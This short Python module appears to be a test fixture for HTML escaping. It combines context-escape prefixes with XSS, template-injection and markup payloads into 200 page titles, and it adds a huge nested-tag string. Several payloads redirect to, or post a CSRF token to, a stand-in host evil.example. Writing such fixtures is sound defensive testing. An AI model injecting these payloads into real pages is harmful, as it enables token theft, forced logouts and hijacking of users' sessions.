"""Two hundred titles made to break out of wherever they are put."""

from itertools import product

BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</h1>",
    "</script>",
    "</textarea>",
    "-->",
    "]]>",
    "</a>",
    "</option></select>",
    "\\",
    "\u2028",
    "\u202e",
    "\u2066",
    "&quot;>",
    "%22%3E",
    "\x0c",
)
"""How one gets out of a text, an attribute, a script, a comment."""
DEEDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)">',
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    ' hx-get="/logout" hx-trigger="load" x="',
    " style=position:fixed;inset:0 x=",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "{{ 7 * 7 }}{% raw %}${7*7}<form action=//evil.example><input name=csrf_token>",
)
"""What one does once one is out."""
TITLES = tuple(f"{before}{deed}" for before, deed in product(BREAKS, DEEDS))
MEGABYTE = "<b>" * 350_000
